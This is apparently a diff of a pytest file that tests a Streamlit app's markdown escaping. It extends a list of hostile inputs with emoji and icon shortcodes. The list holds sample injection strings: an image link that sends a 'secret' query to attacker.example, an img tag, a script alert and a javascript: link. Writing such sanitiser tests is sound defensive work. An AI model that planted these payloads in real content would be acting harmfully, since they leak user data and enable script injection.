@@ -8,7 +8,7 @@ import re
 import pytest
 from streamlit.testing.v1 import AppTest
 
-from kbqa.webapp.render import escape_markdown, highlight
+from kbqa.webapp.render import WORD_JOINER, escape_markdown, highlight
 from tests.conftest import REPO
 
 PASSWORDS = {"wanda": "wanda-password-1", "webadmin": "webadmin-password-1"}
@@ -111,7 +111,7 @@ HOSTILE = [
     "![x](https://attacker.example/leak.png?q=secret)",
     '<img src="https://attacker.example/a.png"> <script>alert(1)</script>',
     "[click me](javascript:alert(1)) and https://attacker.example/auto",
-    "# heading\n* list\n`code` **bold** :red[colour] $x^2$",
+    "# heading\n* list\n`code` **bold** :red[colour] $x^2$ :material/lock: :smile:",
 ]
 
 
@@ -119,9 +119,11 @@ HOSTILE = [
 def test_escaped_text_keeps_no_markdown_syntax(text):
     escaped = escape_markdown(text)
     unescaped = re.sub(r"\\.", "", escaped)  # what is left once every escaped character goes
-    for syntax in ("![", "](", "<", ">", "`", "**", ":red[", "://", "$", "#"):
+    for syntax in ("![", "](", "<", ">", "`", "**", ":red[", "://", "$", "#", ":material",
+                   ":smile:"):
         assert syntax not in unescaped, syntax
-    assert re.sub(r"\\(.)", r"\1", escaped).replace("  \n", "\n") == text  # shown verbatim
+    shown = re.sub(r"\\(.)", r"\1", escaped).replace("  \n", "\n").replace(WORD_JOINER, "")
+    assert shown == text  # displayed verbatim
 
 
 def test_highlight_marks_word_prefixes_and_chinese_terms():
